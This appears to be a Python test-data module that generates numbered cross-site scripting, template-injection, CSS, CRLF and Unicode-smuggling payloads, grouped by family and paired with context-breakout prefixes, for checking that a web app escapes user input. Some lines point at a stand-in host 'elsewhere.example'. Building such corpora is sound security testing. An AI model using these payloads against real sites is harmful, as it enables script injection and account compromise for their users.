"""Texts that would run, if a page ever took one for markup: written by us, by family, each with a number of its own.

`{n}` is the number: what runs says it. Every body stands behind a way out of wherever a page may have put it. NUL is
not among those that are stored, because PostgreSQL stores none; it is typed (`TYPED`).
"""

import random
from base64 import b64encode

_PAGE = b64encode(b"<script>alert('in a frame')</script>").decode()
_DRAWING = b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' id='d'><script>alert('drawn')</script></svg>").decode()

WAYS_OUT = (
    *("", '"', "'", '">', "'>", "`>", "=", '\\"', "\\'>", " x="),
    *("</title>", "</textarea>", "</script>", "</style>", "</option></select>", "</svg>", "</noscript>", "</button>"),
    *("</a>", "</dd></dl>", "</td></tr></table>", "</main></body></html>", "-->", "--!>", "]]>", "*/", "}}", "%}"),
    *("\r\n\r\n", "\u2028", "\u202e", "\ufeff", "\u200b", "\x0b", "\x1b[2J", "\x7f"),
)

SCRIPTS = (
    "<script>alert({n})</script>",
    "<ScRiPt >alert({n})</sCrIpT >",
    "<script/x>alert({n})</script/x>",
    "<script\x0c>alert({n})</script\n>",
    "<script src=data:text/javascript,alert({n})></script>",
    "<script src=//elsewhere.example/{n}.js></script>",
    "<script type=module>alert({n})</script>",
    "<script><!--\nalert({n})//--></script>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "<script>document.title='pwned {n}'</script>",
)
HANDLERS = (
    "<img src=nothing{n} onerror=alert({n})>",
    "<img src=nothing{n}\u00a0onerror=alert({n}) onerror\n=alert({n})>",
    "<IMG/SRC=nothing{n}/ONERROR=alert`{n}`>",
    "<body onload=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<textarea autofocus onfocus=alert({n})>",
    "<select autofocus onfocus=alert({n})><option>",
    "<details open ontoggle=alert({n})>",
    "<video src=nothing{n} onerror=alert({n})></video>",
    "<audio autoplay src=nothing{n} onerror=alert({n})>",
    "<marquee loop=1 onfinish=alert({n})>x</marquee>",
    "<iframe onload=alert({n})></iframe>",
    "<object data=nothing{n} onerror=alert({n})></object>",
    "<link rel=stylesheet href=nothing{n} onerror=alert({n}) onload=alert({n})>",
    "<div tabindex=0 id=f{n} onfocus=alert({n})>x</div>",
    "<dialog open oncancel=alert({n})>x</dialog>",
    "<a autofocus href=# onfocusin=alert({n})>x</a>",
    "<p style=animation:x onanimationstart=alert({n})>",
    "<xss{n} onbeforeinput=alert({n}) contenteditable autofocus onfocus=alert({n})>",
)
IN_ATTRIBUTES = (
    " onmouseover=alert({n}) ",
    '" autofocus onfocus="alert({n})" x="',
    "' autofocus onfocus='alert({n})' x='",
    '" style="position:fixed;inset:0" onpointerenter="alert({n})',
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "java\tscript:alert({n})",
    "&#106;avascript:alert({n})",
    "data:text/html;base64," + _PAGE + "#{n}",
    "vbscript:msgbox({n})",
)
DRAWINGS = (
    "<svg onload=alert({n})>",
    "<svg/onload=alert({n})//",
    "<svg><script>alert&#40;{n}&#41;</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert({n})><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert({n})>",
    '<svg><use href="data:image/svg+xml;base64,' + _DRAWING + '#d{n}"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert({n})</script>"></iframe></foreignObject></svg>',
    "<svg><style><![CDATA[</style><img src=nothing{n} onerror=alert({n})>]]></style></svg>",
)
TURNED_INSIDE_OUT = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=nothing{n} onerror=alert({n})&gt;">',
    '<noscript><p title="</noscript><img src=nothing{n} onerror=alert({n})>">',
    '<svg></p><style><a id="</style><img src=nothing{n} onerror=alert({n})>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=nothing{n} onerror=alert({n})>",
    "<select><noembed></select><script>alert({n})</script>",
    "<template><style></template><img src=nothing{n} onerror=alert({n})></style>",
    "<table><caption><svg><title><img src=nothing{n} onerror=alert({n})></title></caption>",
    "<xmp><img title='</xmp><img src=nothing{n} onerror=alert({n})>'>",
    "<!--><img src=nothing{n} onerror=alert({n})>-->",
    "<![if !x]><img src=nothing{n} onerror=alert({n})><![endif]>",
    "<?xml <img src=nothing{n} onerror=alert({n})> ?>",
    "<b <script>alert({n})</script>0</b>",
)
FRAMES = (
    "<iframe src='data:text/html,<script>alert({n})</script>'></iframe>",
    "<iframe srcdoc='<img src=x onerror=parent.alert({n})>'></iframe>",
    "<embed src='data:text/html;base64," + _PAGE + "#{n}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,{n}'>",
    "<meta http-equiv=refresh content='0;url=/sign-out?{n}'>",
    "<base href=//elsewhere.example/{n}/>",
    "<form action=//elsewhere.example/{n}><button autofocus>x</form>",
    "<button form=x formaction=javascript:alert({n}) autofocus>x</button>",
    "<a href=//elsewhere.example/{n} ping=//elsewhere.example/{n}>x</a>",
    "<link rel=prefetch href=//elsewhere.example/{n}>",
    "<portal src=//elsewhere.example/{n}>",
)
TEMPLATES = (
    "{{7919*{n}}}",
    "${7919*{n}}",
    "#{7919*{n}}",
    "<%= 7919*{n} %>",
    "{% set x = 7919*{n} %}{{ x }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{n}",
    "{{ config }}{{ request.environ }}{n}",
    "{{constructor.constructor('alert({n})')()}}",
    "[[7919*{n}]] (({n}))",
    "{!{n}!} {{{n}}} {{=<% %>=}}",
    "%(message)s %s {0} {n} {self} {0.__class__}",
)
SHEETS = (
    "<style>@import '//elsewhere.example/{n}.css';</style>",
    "<style>*{display:none!important}</style>{n}",
    "<p style='background:url(//elsewhere.example/{n})'>",
    "<p style='width:expression(alert({n}))'>",
    "</style><style>body{opacity:0}{n}",
    "<div style=position:fixed;inset:0;z-index:9999;background:red>{n}</div>",
)
ENCODED = (
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&amp;lt;img src=nothing{n} onerror=alert({n})&amp;gt;",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "%253Csvg%2520onload%253Dalert({n})%253E",
    "\\x3cscript\\x3ealert({n})\\x3c/script\\x3e",
    "\\u003cimg src=nothing{n} onerror=alert({n})\\u003e",
    "&#x3C;img src=nothing{n} onerror=alert({n})&#x3E;",
    "&#0000060svg onload=alert({n})&#0000062",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e",
    "\u2039img src=nothing{n} onerror=alert({n})\u203a",
    "\u02ba\uff1e\uff1csvg onload=alert({n})\uff1e",
    "&NewLine;&Tab;java&Tab;script&colon;alert({n})",
)
IN_SCRIPTS = (
    "';alert({n});//",
    '";alert({n});//',
    "\\';alert({n});//",
    "'-alert({n})-'",
    "`${alert({n})}`",
    "</script><script>alert({n})</script>",
    "\u2028alert({n})//",
    '{"a":"</script><img src=nothing{n} onerror=alert({n})>"}',
    "*/alert({n})/*",
)
FOR_OUR_SCRIPTS = (
    "<div hx-get=/tickets?{n} hx-trigger=load hx-swap=outerHTML>x</div>",
    "<div data-hx-post=/sign-out?{n} data-hx-trigger=load>x</div>",
    "<div hx-on:htmx:load=alert({n}) hx-on::load=alert({n})>x</div>",
    "<div hx-vals='js:{x:alert({n})}' hx-get=/tickets?{n} hx-trigger=load>x</div>",
    "<div hx-swap-oob=innerHTML:body>{n}</div>",
    "<form id=csrf><input name=attributes><input name=action id=nodeName>{n}</form>",
    "<a id=config href=x{n}></a><a id=config name=url></a>",
)
MISLEADING = (
    "\u202e<img src=nothing{n} onerror=alert({n})>\u202c",
    "\u2066<svg onload=alert({n})>\u2069",
    "photo{n}\u202egpj.<svg onload=alert({n})>",
    "<scr\u200bipt>alert({n})</scr\u200bipt>",
    "<\u0073vg onload=alert({n})>\u0300\u0301",
    "a\r\nSet-Cookie: x={n}\r\n\r\n<svg onload=alert({n})>",
    'x.png"; filename="{n}.html"; x="<svg onload=alert({n})>',
    "\x01<svg\x0bonload=alert({n})>\x1b]0;{n}\x07",
)
FAMILIES = (
    *(SCRIPTS, HANDLERS, IN_ATTRIBUTES, DRAWINGS, TURNED_INSIDE_OUT, FRAMES, TEMPLATES, SHEETS, ENCODED, IN_SCRIPTS),
    *(FOR_OUR_SCRIPTS, MISLEADING),
)
BODIES = tuple(body for family in FAMILIES for body in family)
TYPED = "<img src=nothing0\0 onerror=alert(0)>\0<svg\0onload=alert(0)>"
PRODUCT = 7919
"""What the template bodies multiply their number with: a page that says the product has reckoned."""


def corpus(count: int, seed: int) -> list[str]:
    """So many texts, all different: every body first, then bodies again behind other ways out."""
    chance, made = random.Random(seed), []
    order: list[str] = []
    while len(made) < count:
        if not order:
            order = chance.sample(BODIES, len(BODIES))
        n = 1_000_003 + len(made)
        made.append(chance.choice(WAYS_OUT) + order.pop().replace("{n}", str(n)))
    assert len(set(made)) == count
    return made
